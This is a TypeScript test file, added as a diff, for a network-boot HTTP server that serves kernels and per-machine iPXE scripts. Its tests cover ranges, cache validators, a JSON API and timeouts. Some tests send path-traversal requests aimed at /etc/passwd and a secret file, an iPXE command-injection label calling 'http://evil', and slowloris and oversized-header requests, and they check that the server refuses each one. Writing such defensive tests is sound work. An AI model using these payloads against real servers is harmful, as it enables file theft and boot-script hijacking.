@@ -1,0 +1,444 @@
+// The HTTP server against real curl on loopback: ranges, validators, HEAD,
+// path escapes, per-machine iPXE scripts, the JSON API and the timeline.
+import test from 'ava';
+import { execFile } from 'node:child_process';
+import { mkdtemp, mkdir, writeFile, readFile, rm, symlink } from 'node:fs/promises';
+import { connect } from 'node:net';
+import { randomBytes } from 'node:crypto';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { MountedStore } from '../../boot/store.ts';
+import { BootTimeline } from '../../boot/timeline.ts';
+import { createSelector } from '../../boot/selection.ts';
+import type { Profile, Group, MachineOverride } from '../../boot/selection.ts';
+import { silentLogger } from '../../boot/log.ts';
+import { startHttpServer } from '../../boot/http/index.ts';
+import type { HttpServer } from '../../boot/http/index.ts';
+
+interface CurlResult {
+  status: number;
+  headers: Record<string, string>;
+  body: Buffer;
+}
+
+let dir = '';
+let seq = 0;
+let server: HttpServer;
+const timeline = new BootTimeline();
+const kernel = randomBytes(1024 * 1024 + 123);
+const initrd = randomBytes(300_000);
+const big = randomBytes(16 * 1024 * 1024);
+
+const MAC_A = '52:54:00:00:00:0a';
+const MAC_B = '52:54:00:00:00:0b';
+const MAC_OVERRIDE = '52:54:00:00:00:0c';
+const MAC_UNKNOWN = '52:54:00:00:00:0d';
+const hyp = (mac: string) => mac.replace(/:/g, '-');
+
+/** Runs curl; headers of the last response, body as bytes. */
+function curl(args: string[]): Promise<CurlResult> {
+  const n = seq++;
+  const hfile = path.join(dir, `h${n}`);
+  const bfile = path.join(dir, `b${n}`);
+  return new Promise((resolve, reject) => {
+    execFile('curl', ['-sS', '--max-time', '20', '-D', hfile, '-o', bfile, ...args], async (err) => {
+      if (err) return reject(err);
+      const raw = await readFile(hfile, 'latin1');
+      const blocks = raw.split(/\r\n\r\n/).filter((b) => b.trim() !== '');
+      const lines = blocks[blocks.length - 1].split('\r\n');
+      const headers: Record<string, string> = {};
+      for (const l of lines.slice(1)) {
+        const i = l.indexOf(':');
+        headers[l.slice(0, i).toLowerCase()] = l.slice(i + 1).trim();
+      }
+      const body = await readFile(bfile).catch(() => Buffer.alloc(0));
+      resolve({ status: Number(lines[0].split(' ')[1]), headers, body });
+    });
+  });
+}
+
+/** Raw request over TCP, for what curl will not send or show. */
+function raw(request: string, port: number): Promise<Buffer> {
+  return new Promise((resolve, reject) => {
+    const s = connect(port, '127.0.0.1');
+    const chunks: Buffer[] = [];
+    s.on('data', (d) => chunks.push(d));
+    s.on('end', () => resolve(Buffer.concat(chunks)));
+    s.on('error', reject);
+    s.write(request);
+  });
+}
+
+const url = (p: string) => `${server.url}${p}`;
+
+const profiles: Profile[] = [
+  { name: 'zos-prod', kernel: 'images/zos/vmlinuz', initrd: ['images/zos/initramfs.img'], args: { nomodeset: null, version: 'v3', runmode: 'prod', panic: 7200 } },
+  { name: 'zos-qa', kernel: 'images/qa/vmlinuz', initrd: ['images/qa/initramfs.img'], args: { version: 'v3', runmode: 'qa', panic: 7200 }, cmdline: 'console=ttyS0' },
+];
+const groups: Group[] = [
+  { name: 'rack-a', profile: 'zos-prod', selector: { hostname: 'node-a' }, args: { farmer_id: 101 } },
+  { name: 'qa-lab', profile: 'zos-qa', selector: { serial: 'SN-QA' }, args: { farmer_id: 202 } },
+];
+const machines: MachineOverride[] = [{ mac: MAC_OVERRIDE, args: { farmer_id: 999, runmode: 'dev' } }];
+
+test.before(async () => {
+  dir = await mkdtemp(path.join(tmpdir(), 'zb-http-'));
+  const store = path.join(dir, 'store');
+  await mkdir(path.join(store, 'images/zos'), { recursive: true });
+  await mkdir(path.join(store, 'images/qa'), { recursive: true });
+  await writeFile(path.join(store, 'images/zos/vmlinuz'), kernel);
+  await writeFile(path.join(store, 'images/zos/initramfs.img'), initrd);
+  await writeFile(path.join(store, 'images/qa/vmlinuz'), kernel.subarray(0, 1000));
+  await writeFile(path.join(store, 'images/qa/initramfs.img'), initrd.subarray(0, 1000));
+  await writeFile(path.join(store, 'big.bin'), big);
+  await writeFile(path.join(store, 'empty'), '');
+  await writeFile(path.join(dir, 'secret.txt'), 'TOPSECRET\n');
+  await symlink(path.join(dir, 'secret.txt'), path.join(store, 'images/escape'));
+  const ipxe = path.join(dir, 'ipxe');
+  await mkdir(ipxe);
+  await writeFile(path.join(ipxe, 'undionly.kpxe'), 'fake-undionly');
+  server = await startHttpServer({
+    store: new MountedStore([{ prefix: 'ipxe', dir: ipxe }, { prefix: '', dir: store }]),
+    selector: createSelector(profiles, groups, machines),
+    timeline,
+    log: silentLogger,
+    host: '127.0.0.1',
+    port: 0,
+    leases: () => [{ mac: '52-54-00-00-00-99', ip: '10.77.0.99', hostname: 'leased-only' }],
+    timeouts: { headersMs: 1500, requestMs: 5000 },
+  });
+});
+
+test.after.always(async () => {
+  await server?.close();
+  if (dir) await rm(dir, { recursive: true, force: true });
+});
+
+test('a full GET carries length, type, validators and accepts ranges', async (t) => {
+  const r = await curl([url('/images/zos/vmlinuz')]);
+  t.is(r.status, 200);
+  t.true(r.body.equals(kernel));
+  t.is(r.headers['content-length'], String(kernel.length));
+  t.is(r.headers['content-type'], 'application/octet-stream');
+  t.is(r.headers['accept-ranges'], 'bytes');
+  t.regex(r.headers.etag, /^"[0-9a-f-]+"$/);
+  t.true(Number.isFinite(Date.parse(r.headers['last-modified'])));
+});
+
+test('single ranges: first bytes, middle, suffix and open-ended', async (t) => {
+  const size = kernel.length;
+  const cases: [string, number, number][] = [
+    ['0-99', 0, 99],
+    ['5000-70000', 5000, 70000],
+    ['-500', size - 500, size - 1],
+    [`${size - 1000}-`, size - 1000, size - 1],
+    [`100-${size + 5000}`, 100, size - 1],
+  ];
+  for (const [spec, start, end] of cases) {
+    const r = await curl(['-r', spec, url('/images/zos/vmlinuz')]);
+    t.is(r.status, 206, spec);
+    t.is(r.headers['content-range'], `bytes ${start}-${end}/${size}`, spec);
+    t.is(r.headers['content-length'], String(end - start + 1), spec);
+    t.true(r.body.equals(kernel.subarray(start, end + 1)), spec);
+  }
+});
+
+test('an unsatisfiable range gets 416 with the size; a malformed one the whole file', async (t) => {
+  const r = await curl(['-r', `${kernel.length}-`, url('/images/zos/vmlinuz')]);
+  t.is(r.status, 416);
+  t.is(r.headers['content-range'], `bytes */${kernel.length}`);
+  const odd = await curl(['-H', 'Range: bytes=9-3', url('/images/zos/initramfs.img')]);
+  t.is(odd.status, 200);
+  t.true(odd.body.equals(initrd));
+  const unit = await curl(['-H', 'Range: pages=1-2', url('/images/zos/initramfs.img')]);
+  t.is(unit.status, 200);
+});
+
+test('several ranges come back as multipart/byteranges', async (t) => {
+  const r = await curl(['-r', '0-9,1000-1019,-5', url('/images/zos/initramfs.img')]);
+  t.is(r.status, 206);
+  const m = /^multipart\/byteranges; boundary=(\S+)$/.exec(r.headers['content-type']);
+  t.truthy(m);
+  t.is(Number(r.headers['content-length']), r.body.length);
+  const parts = r.body.toString('latin1').split(`--${m![1]}`).slice(1, -1);
+  t.is(parts.length, 3);
+  const want: [number, number][] = [[0, 9], [1000, 1019], [initrd.length - 5, initrd.length - 1]];
+  parts.forEach((p, i) => {
+    const [head, body] = p.split('\r\n\r\n');
+    t.true(head.includes(`Content-Range: bytes ${want[i][0]}-${want[i][1]}/${initrd.length}`));
+    t.true(Buffer.from(body.replace(/\r\n$/, ''), 'latin1').equals(initrd.subarray(want[i][0], want[i][1] + 1)));
+  });
+});
+
+test('If-Range with a stale validator returns the whole file', async (t) => {
+  const fresh = await curl(['-I', url('/images/zos/initramfs.img')]);
+  const same = await curl(['-r', '0-9', '-H', `If-Range: ${fresh.headers.etag}`, url('/images/zos/initramfs.img')]);
+  t.is(same.status, 206);
+  const stale = await curl(['-r', '0-9', '-H', 'If-Range: "old"', url('/images/zos/initramfs.img')]);
+  t.is(stale.status, 200);
+  t.is(stale.body.length, initrd.length);
+});
+
+test('HEAD answers with the GET headers and no body', async (t) => {
+  const get = await curl([url('/images/zos/vmlinuz')]);
+  const head = await curl(['-I', url('/images/zos/vmlinuz')]);
+  t.is(head.status, 200);
+  for (const h of ['content-length', 'content-type', 'etag', 'last-modified', 'accept-ranges']) t.is(head.headers[h], get.headers[h], h);
+  // On the wire: the response ends right after the header block.
+  const wire = await raw('HEAD /images/zos/vmlinuz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', server.port);
+  const text = wire.toString('latin1');
+  t.true(text.startsWith('HTTP/1.1 200'));
+  t.is(text.indexOf('\r\n\r\n') + 4, wire.length);
+  const ranged = await curl(['-I', '-r', '10-19', url('/images/zos/vmlinuz')]);
+  t.is(ranged.status, 206);
+  t.is(ranged.headers['content-length'], '10');
+});
+
+test('unknown files are 404, other methods 405, empty files 200 with length 0', async (t) => {
+  t.is((await curl([url('/images/zos/nope')])).status, 404);
+  t.is((await curl([url('/images')])).status, 404);
+  t.is((await curl([url('/')])).status, 404);
+  const post = await curl(['-X', 'POST', '-d', 'x', url('/images/zos/vmlinuz')]);
+  t.is(post.status, 405);
+  t.is(post.headers.allow, 'GET, HEAD');
+  const empty = await curl([url('/empty')]);
+  t.is(empty.status, 200);
+  t.is(empty.headers['content-length'], '0');
+  const emptyRange = await curl(['-r', '0-9', url('/empty')]);
+  t.is(emptyRange.status, 416);
+});
+
+test('ETag and Last-Modified revalidate to 304', async (t) => {
+  const first = await curl([url('/images/zos/initramfs.img')]);
+  const etag = first.headers.etag;
+  const inm = await curl(['-H', `If-None-Match: ${etag}`, url('/images/zos/initramfs.img')]);
+  t.is(inm.status, 304);
+  t.is(inm.body.length, 0);
+  t.is(inm.headers.etag, etag);
+  t.is((await curl(['-H', `If-None-Match: "other", W/${etag}`, url('/images/zos/initramfs.img')])).status, 304);
+  t.is((await curl(['-H', 'If-None-Match: "other"', url('/images/zos/initramfs.img')])).status, 200);
+  t.is((await curl(['-H', `If-Modified-Since: ${first.headers['last-modified']}`, url('/images/zos/initramfs.img')])).status, 304);
+  t.is((await curl(['-H', 'If-Modified-Since: Thu, 01 Jan 1998 00:00:00 GMT', url('/images/zos/initramfs.img')])).status, 200);
+  // If-None-Match wins over If-Modified-Since.
+  t.is((await curl(['-H', 'If-None-Match: "other"', '-H', `If-Modified-Since: ${first.headers['last-modified']}`, url('/images/zos/initramfs.img')])).status, 200);
+  t.is((await curl(['-H', 'If-Match: "other"', url('/images/zos/initramfs.img')])).status, 412);
+});
+
+test('paths that leave the store are refused, however they are spelled', async (t) => {
+  const attempts: string[][] = [
+    ['--path-as-is', url('/../secret.txt')],
+    ['--path-as-is', url('/images/../../secret.txt')],
+    ['--path-as-is', url('/../../../../etc/passwd')],
+    [url('/%2e%2e/secret.txt')],
+    [url('/images/%2E%2E/%2e%2e/secret.txt')],
+    [url('/..%2fsecret.txt')],
+    [url('/..%5csecret.txt')],
+    ['--path-as-is', url('/..\\secret.txt')],
+    ['--path-as-is', url('/images\\..\\..\\secret.txt')],
+    [url('/images/escape')],
+    [url('/images/%00')],
+    [url('/%zz')],
+  ];
+  for (const a of attempts) {
+    const r = await curl(a);
+    t.is(r.status, 400, a.join(' '));
+    t.false(r.body.toString().includes('TOPSECRET'), a.join(' '));
+    t.false(r.body.toString().includes('root:'), a.join(' '));
+  }
+  // Without --path-as-is curl resolves the dots itself: still nothing outside.
+  const tidy = await curl([url('/../secret.txt')]);
+  t.is(tidy.status, 404);
+});
+
+test('the iPXE binaries are served under /ipxe/', async (t) => {
+  const r = await curl([url('/ipxe/undionly.kpxe')]);
+  t.is(r.status, 200);
+  t.is(r.body.toString(), 'fake-undionly');
+});
+
+test('/boot.ipxe chains to the per-machine script with the booted MAC and labels', async (t) => {
+  const r = await curl([url('/boot.ipxe')]);
+  t.is(r.status, 200);
+  const s = r.body.toString();
+  t.true(s.startsWith('#!ipxe\n'));
+  t.true(s.includes(`chain --replace --autofree ${server.url}/ipxe?mac=\${netX/mac:hexhyp}&uuid=\${uuid}&serial=\${serial:uristring}&arch=\${buildarch}`));
+  t.is(r.headers['cache-control'], 'no-store');
+});
+
+const kernelLine = (script: string) => script.split('\n').find((l) => l.startsWith('kernel '))!;
+
+test('machines in different groups get different kernels and arguments; a per-MAC entry wins', async (t) => {
+  const a = (await curl([url(`/ipxe?mac=${hyp(MAC_A)}&hostname=node-a&arch=x86_64&platform=pcbios`)])).body.toString();
+  const b = (await curl([url(`/ipxe?mac=${hyp(MAC_B)}&serial=SN-QA&arch=x86_64`)])).body.toString();
+  const o = (await curl([url(`/ipxe?mac=${MAC_OVERRIDE}&hostname=node-a`)])).body.toString();
+  for (const s of [a, b, o]) t.true(s.startsWith('#!ipxe\n'));
+  t.true(kernelLine(a).startsWith(`kernel --name kernel ${server.url}/images/zos/vmlinuz?mac=${hyp(MAC_A)} nomodeset version=v3 runmode=prod panic=7200 farmer_id=101 initrd=initrd0 `));
+  t.true(kernelLine(b).startsWith(`kernel --name kernel ${server.url}/images/qa/vmlinuz?mac=${hyp(MAC_B)} version=v3 runmode=qa panic=7200 farmer_id=202 console=ttyS0 initrd=initrd0 `));
+  t.regex(kernelLine(o), / runmode=dev panic=7200 farmer_id=999 /);
+  t.true(a.includes(`initrd --name initrd0 ${server.url}/images/zos/initramfs.img?mac=${hyp(MAC_A)}`));
+});
+
+test('an unknown machine gets an iPXE script that says why, not a 500', async (t) => {
+  const r = await curl([url(`/ipxe?mac=${hyp(MAC_UNKNOWN)}&hostname=stranger&serial=X1`)]);
+  t.is(r.status, 200);
+  const s = r.body.toString();
+  t.true(s.startsWith('#!ipxe\n'));
+  t.regex(s, /echo zeroboot: no group or machine entry selects a profile for mac=52:54:00:00:00:0d/);
+  t.regex(s, /\nreboot\n$/);
+  t.false(/at .*\.ts:\d+/.test(s));
+  const ev = timeline.events(MAC_UNKNOWN);
+  t.is(ev.at(-1)?.kind, 'http.error');
+  t.regex(ev.at(-1)?.reason ?? '', /no group or machine entry/);
+});
+
+test('a hostile label cannot inject commands into the script', async (t) => {
+  const evil = encodeURIComponent('x\nchain http://evil/${net0/ip} && reboot');
+  const r = await curl([url(`/ipxe?mac=52-54-00-00-00-ee&hostname=${evil}`)]);
+  t.is(r.status, 200);
+  for (const line of r.body.toString().split('\n').filter((l) => l && !l.startsWith('#'))) {
+    t.regex(line, /^(echo zeroboot: [^$&|{}\n]*|:reboot|sleep 30|reboot)$/, line);
+  }
+});
+
+test('a script request without a MAC is a 400', async (t) => {
+  const r = await curl([url('/ipxe?hostname=node-a')]);
+  t.is(r.status, 400);
+  t.true(r.body.toString().startsWith('#!ipxe\n'));
+});
+
+test('downloads are attributed to the machine: script, kernel, initrd, then the API shows them', async (t) => {
+  const script = (await curl([url(`/ipxe?mac=${hyp(MAC_A)}&hostname=node-a&uuid=1234-ABCD`)])).body.toString();
+  const k = /kernel --name kernel (\S+)/.exec(script)![1];
+  const i = /initrd --name initrd0 (\S+)/.exec(script)![1];
+  t.is((await curl([k])).body.length, kernel.length);
+  t.is((await curl([i])).body.length, initrd.length);
+  await curl([url(`/images/zos/missing?mac=${hyp(MAC_A)}`)]);
+  const detail = await curl([url(`/api/machines/${MAC_A}`)]);
+  t.is(detail.status, 200);
+  t.regex(detail.headers['content-type'], /^application\/json/);
+  const d = JSON.parse(detail.body.toString());
+  t.is(d.mac, MAC_A);
+  t.is(d.selection.profile, 'zos-prod');
+  t.is(d.selection.group, 'rack-a');
+  t.is(d.labels.hostname, 'node-a');
+  const kinds = d.timeline.map((e: { kind: string }) => e.kind);
+  const tail = kinds.slice(-4);
+  t.deepEqual(tail, ['http.script', 'http.kernel', 'http.initrd', 'http.error']);
+  const [scriptEv, kernelEv, initrdEv, errorEv] = d.timeline.slice(-4);
+  t.is(scriptEv.detail.profile, 'zos-prod');
+  t.is(scriptEv.detail.selection, 'group "rack-a"');
+  t.is(scriptEv.detail.uuid, '1234-ABCD');
+  t.like(kernelEv.detail, { path: 'images/zos/vmlinuz', status: 200, bytes: kernel.length });
+  t.like(initrdEv.detail, { path: 'images/zos/initramfs.img', status: 200, bytes: initrd.length });
+  t.like(errorEv.detail, { status: 404 });
+  t.is(d.events, d.timeline.length);
+});
+
+test('a ranged or aborted download is recorded with the bytes actually sent', async (t) => {
+  const mac = '52:54:00:00:01:01';
+  await curl(['-r', '0-99', url(`/images/zos/vmlinuz?mac=${mac}`)]);
+  const ranged = timeline.events(mac).at(-1)!;
+  t.like(ranged.detail, { status: 206, bytes: 100, range: '0-99' });
+  // Read the headers and a little body, then hang up.
+  await new Promise<void>((resolve) => {
+    const s = connect(server.port, '127.0.0.1');
+    let got = 0;
+    s.on('data', (d) => {
+      got += d.length;
+      if (got > 64 * 1024) s.destroy();
+    });
+    s.on('close', () => resolve());
+    s.write(`GET /big.bin?mac=${mac} HTTP/1.1\r\nHost: x\r\n\r\n`);
+  });
+  const deadline = Date.now() + 3000;
+  while (timeline.events(mac).length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+  const aborted = timeline.events(mac).at(-1)!;
+  t.is(aborted.kind, 'http.artifact');
+  t.regex(aborted.reason ?? '', /closed the connection/);
+  t.true((aborted.detail!.bytes as number) < big.length);
+  // The server is fine afterwards.
+  t.is((await curl([url('/api/health')])).status, 200);
+});
+
+test('the machine list shows the last event, the selection and DHCP leases', async (t) => {
+  await curl([url(`/ipxe?mac=${hyp(MAC_B)}&serial=SN-QA`)]);
+  const r = await curl([url('/api/machines')]);
+  t.is(r.status, 200);
+  const { machines } = JSON.parse(r.body.toString());
+  const b = machines.find((m: { mac: string }) => m.mac === MAC_B);
+  t.is(b.last.kind, 'http.script');
+  t.is(b.selection.profile, 'zos-qa');
+  t.is(b.selection.args.farmer_id, 202);
+  const leased = machines.find((m: { mac: string }) => m.mac === '52:54:00:00:00:99');
+  t.like(leased, { events: 0, last: null, lease: { ip: '10.77.0.99', hostname: 'leased-only' } });
+  t.true(typeof leased.selection.error === 'string');
+  const unknown = machines.find((m: { mac: string }) => m.mac === MAC_UNKNOWN);
+  t.regex(unknown.selection.error, /no group or machine entry/);
+});
+
+test('API errors are JSON objects with an error field', async (t) => {
+  const health = await curl([url('/api/health')]);
+  t.like(JSON.parse(health.body.toString()), { status: 'ok' });
+  for (const [p, status] of [['/api/nope', 404], ['/api/machines/not-a-mac', 400], ['/api/machines/52:54:00:12:34:56', 404]] as const) {
+    const r = await curl([url(p)]);
+    t.is(r.status, status, p);
+    t.is(typeof JSON.parse(r.body.toString()).error, 'string', p);
+  }
+  const post = await curl(['-X', 'POST', url('/api/machines')]);
+  t.is(post.status, 405);
+  t.is(typeof JSON.parse(post.body.toString()).error, 'string');
+});
+
+test('garbage on the wire gets a 400 and the server keeps serving', async (t) => {
+  const r = await raw('NOT HTTP AT ALL\r\n\r\n', server.port);
+  t.regex(r.toString(), /^HTTP\/1.1 400/);
+  const huge = await raw(`GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(70_000)}\r\n\r\n`, server.port);
+  t.regex(huge.toString(), /^HTTP\/1.1 431/);
+  t.is((await curl([url('/api/health')])).status, 200);
+});
+
+test('a slowloris client is cut off after the header timeout', async (t) => {
+  const started = Date.now();
+  const closedAfter = await new Promise<number>((resolve) => {
+    const s = connect(server.port, '127.0.0.1');
+    s.write('GET /big.bin HTTP/1.1\r\nHost: x\r\n');
+    const drip = setInterval(() => s.writable && s.write('X-Drip: 1\r\n'), 300);
+    s.on('error', () => undefined);
+    s.on('close', () => {
+      clearInterval(drip);
+      resolve(Date.now() - started);
+    });
+    s.resume();
+  });
+  t.true(closedAfter >= 1400 && closedAfter < 4000, `closed after ${closedAfter} ms`);
+});
+
+test('keep-alive reuses connections', async (t) => {
+  const r = await new Promise<string>((resolve, reject) => {
+    execFile('curl', ['-sS', '-v', '-o', '/dev/null', '-o', '/dev/null', url('/api/health'), url('/boot.ipxe')], (err, _out, stderr) => (err ? reject(err) : resolve(stderr)));
+  });
+  t.regex(r, /Re-using existing connection/);
+});
+
+test('close() ends open and busy connections at once', async (t) => {
+  const store = new MountedStore([{ prefix: '', dir: path.join(dir, 'store') }]);
+  const s = await startHttpServer({ store, selector: createSelector(profiles, groups, machines), timeline: new BootTimeline(), log: silentLogger, host: '127.0.0.1', port: 0 });
+  const idle = connect(s.port, '127.0.0.1');
+  await new Promise<void>((resolve) => {
+    idle.once('data', () => resolve());
+    idle.write('GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n');
+  });
+  const busy = connect(s.port, '127.0.0.1');
+  busy.write('GET /big.bin HTTP/1.1\r\nHost: x\r\n\r\n');
+  busy.pause(); // a reader that never drains
+  await new Promise((r) => setTimeout(r, 200));
+  const closed = Promise.all([idle, busy].map((c) => new Promise((r) => (c.destroyed ? r(null) : c.once('close', r)))));
+  idle.on('error', () => undefined);
+  busy.on('error', () => undefined);
+  const t0 = Date.now();
+  await s.close();
+  t.true(Date.now() - t0 < 1000);
+  // A paused socket notices the hang-up only once it reads again.
+  busy.resume();
+  await closed;
+});
